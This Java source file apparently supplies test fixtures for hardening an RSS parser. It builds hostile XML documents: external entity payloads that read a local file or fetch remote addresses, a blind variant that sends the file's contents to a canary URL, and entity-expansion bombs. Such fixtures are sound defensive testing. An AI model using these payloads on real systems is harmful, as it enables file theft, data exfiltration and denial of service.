package de.faktenstrom.ingest.source;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.net.URI;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/// Documents that would have their reader open a file or a connection, or fill its memory, by what
/// they define (XML 1.0 section 4).
final class DocumentTypes {

  private static final String HEAD = "<rss version='2.0'><channel>";
  private static final String END = "</channel></rss>";

  private final Map<String, byte[]> documents = new LinkedHashMap<>();
  private final String canary;
  private final URI secret;

  private DocumentTypes(String canary, Path secret) {
    this.canary = canary;
    this.secret = secret.toUri();
  }

  /// By name.
  ///
  /// @param canary an address nobody may ask
  /// @param secret a file nobody may read
  static Map<String, byte[]> of(String canary, Path secret) {
    DocumentTypes types = new DocumentTypes(canary, secret);
    types.outside();
    types.expanding();
    return types.documents;
  }

  private void outside() {
    entity("file", secret);
    entity("http", canary);
    entity("ftp", canary.replace("http:", "ftp:"));
    entity("jar", "jar:" + canary + "a.jar!/b");
    entity("netdoc", "netdoc:" + secret.getPath());
    documents.put("file-utf-16", type(secret).getBytes(UTF_16));
    put("dtd", "<!DOCTYPE rss SYSTEM " + quoted(canary + "rss.dtd") + ">" + rss("&e;"));
    put("dtd-public", "<!DOCTYPE rss PUBLIC '-//N//DTD RSS//EN' " + quoted(canary) + ">" + rss(""));
    put(
        "parameter",
        "<!DOCTYPE rss [<!ENTITY % p SYSTEM "
            + quoted(canary + "p")
            + "> %p; %all;]>"
            + rss("&e;"));
    put(
        "blind",
        "<!DOCTYPE rss [<!ENTITY % f SYSTEM "
            + quoted(secret)
            + "><!ENTITY % w \"<!ENTITY &#37; s SYSTEM '"
            + canary
            + "?%f;'>\"> %w; %s;]>"
            + rss(""));
    put(
        "attribute",
        "<!DOCTYPE rss [<!ENTITY e SYSTEM "
            + quoted(secret)
            + ">]>"
            + HEAD
            + "<item><title>E</title><guid>1</guid><enclosure url='https://e.org/&e;'/></item>"
            + END);
    put(
        "include",
        "<rss version='2.0' xmlns:xi='http://www.w3.org/2001/XInclude'><channel><item><title>E"
            + "<xi:include href="
            + quoted(secret)
            + " parse='text'/></title></item>"
            + END);
    put(
        "schema",
        "<rss version='2.0' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
            + " xsi:noNamespaceSchemaLocation="
            + quoted(canary + "a.xsd")
            + "><channel><item><title>E</title></item>"
            + END);
    put("stylesheet", "<?xml-stylesheet type='text/xsl' href=" + quoted(canary) + "?>" + rss("E"));
    put(
        "cut-off",
        "<!DOCTYPE rss [<!ENTITY e SYSTEM " + quoted(secret) + ">]>" + HEAD + "&e;<item>");
  }

  private void entity(String name, Object address) {
    put("entity-" + name, type(address));
  }

  private static String type(Object address) {
    return doctype("<!ENTITY e SYSTEM " + quoted(address) + ">") + rss("&e;");
  }

  private void expanding() {
    put("laughs", doctype(laughs(30, "&a%1$d;&a%1$d;")) + rss("&a29;"));
    put(
        "laughs-parameter",
        doctype(laughs(12, "&#37;a%1$d;&#37;a%1$d;").replace("ENTITY a", "ENTITY % a") + "%a11;")
            + rss("E"));
    put("laughs-attribute", doctype(laughs(30, "&a%1$d;&a%1$d;")) + rss("<b c='&a29;'/>"));
    put(
        "square",
        doctype("<!ENTITY a '" + "x".repeat(1 << 20) + "'>") + rss("&a;".repeat(1 << 18)));
    put("circle", doctype("<!ENTITY a '&b;'><!ENTITY b '&a;'>") + rss("&a;"));
    put(
        "many",
        doctype(
                IntStream.range(0, 100_000)
                    .mapToObj(i -> "<!ENTITY e" + i + " 'x'>")
                    .collect(Collectors.joining()))
            + rss("&e1;"));
    put("deep-type", "<!DOCTYPE rss [" + "<!ELEMENT a (".repeat(100_000) + "]>" + rss("E"));
    put("open-type", "<!DOCTYPE rss [" + "<!ENTITY a '".repeat(500_000));
    put("references", rss("&#x41;".repeat(500_000)));
    put("big-reference", rss("&#x" + "0".repeat(1 << 20) + "41;"));
  }

  private static String laughs(int generations, String twice) {
    return "<!ENTITY a0 'ha'>"
        + IntStream.range(1, generations)
            .mapToObj(i -> "<!ENTITY a" + i + " '" + twice.formatted(i - 1) + "'>")
            .collect(Collectors.joining());
  }

  private static String doctype(String definitions) {
    return "<!DOCTYPE rss [" + definitions + "]>";
  }

  private static String rss(String title) {
    return HEAD + "<item><guid>1</guid><title>T " + title + "</title></item>" + END;
  }

  private static String quoted(Object address) {
    return "'" + address + "'";
  }

  private void put(String name, String document) {
    documents.put(name, document.getBytes(UTF_8));
  }
}
